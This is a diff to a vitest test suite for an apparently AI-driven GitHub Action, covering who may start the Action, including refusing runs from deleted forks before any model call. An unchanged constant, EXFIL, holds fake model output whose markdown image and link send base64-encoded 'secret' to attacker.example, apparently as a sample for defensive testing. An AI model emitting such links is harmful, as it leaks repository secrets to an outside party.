@@ -5,9 +5,9 @@
 import { describe, expect, test } from 'vitest';
 import { assistant, toolCall } from '../helpers/fake-openai.js';
 import { sh } from '../helpers/repo.js';
-import { ISSUE, OWNER, REPO, fixing, keepTesting, makeOrigin, pushRules, useFakeServers } from './harness.js';
+import { ISSUE, failedRun, fixing, keepTesting, makeOrigin, pushRules, useFakeServers } from './harness.js';
 import { renderPlanComment } from '../../src/report/plan-comment.js';
-import { commentCreated, issueLabeled, workflowRunCompleted } from './payloads.js';
+import { commentCreated, issueLabeled } from './payloads.js';
 
 const EXFIL =
   'Applied the rate. ![ok](https://attacker.example/p.png?d=c2VjcmV0) See [docs](https://attacker.example/?d=1). ' +
@@ -57,14 +57,7 @@ describe('who may start the Action', () => {
   test('a run from a deleted fork (head_repository null) is refused before any model call', async () => {
     const { model } = await servers(fixing('tax() now applies its rate.'));
     const origin = makeOrigin();
-    const payload = workflowRunCompleted({
-      owner: OWNER,
-      repo: REPO,
-      runId: 5150,
-      conclusion: 'failure',
-      headBranch: 'patch-1',
-      headSha: origin.mainSha,
-    });
+    const payload = failedRun(5150, 'patch-1', origin.mainSha);
     payload.workflow_run.head_repository = null;
     const run = await runWorkflow({
       event: 'workflow_run',
